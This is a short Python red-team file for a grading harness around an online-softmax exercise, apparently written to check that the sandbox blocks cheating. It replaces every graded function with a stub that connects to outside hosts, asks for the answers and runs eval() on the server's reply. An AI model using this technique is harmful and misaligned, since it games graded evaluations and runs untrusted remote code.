# Red-team attack. `python -m instructor.redteam assemble DIR` lays the block below over the
# current starter/online_softmax.py (everything above the marker is replaced by it).
# ---- red-team attack (instructor/redteam): everything below is the attack ----
_PART1 = ("naive_softmax", "safe_softmax", "online_summary", "online_softmax", "merge_summary", "merge_partial",
          "naive_softmax_counted", "safe_softmax_counted", "online_softmax_counted")


def _install(impl):
    """Replace every graded function of this file by impl(name, *args, **kwargs)."""
    for _name in _PART1:
        globals()[_name] = (lambda n: lambda *a, **k: impl(n, *a, **k))(_name)


def _zeros_like_answer(name, *args, **kwargs):
    """A wrong answer of the right type and shape (what a cheat falls back to)."""
    x = args[0]
    if name in ("naive_softmax", "safe_softmax", "online_softmax"):
        return torch.zeros_like(x)
    if name == "online_summary":
        return torch.zeros(x.shape[:-1], dtype=x.dtype), torch.zeros(x.shape[:-1], dtype=x.dtype)
    if name in ("merge_summary", "merge_partial"):
        return tuple(torch.zeros_like(t) for t in x)
    if name == "online_softmax_counted":
        return [0.0] * len(x), 0
    return [0.0] * len(x)


def _phone_home(name, *args, **kwargs):
    import socket
    errors = []
    for host, port in (("127.0.0.1", 47613), ("1.1.1.1", 53), ("8.8.8.8", 443)):
        try:
            with socket.create_connection((host, port), timeout=2) as s:
                s.sendall(b"online_softmax wants the answers\n")
                answer = s.recv(1 << 16)
                return eval(answer.decode())  # whatever the server sends
        except OSError as e:
            errors.append(f"{host}:{port}: {e.strerror or e}")
    try:
        socket.getaddrinfo("example.com", 80)
        errors.append("DNS works")
    except OSError as e:
        errors.append(f"DNS: {e}")
    raise RuntimeError("network blocked: " + "; ".join(errors))


_install(_phone_home)
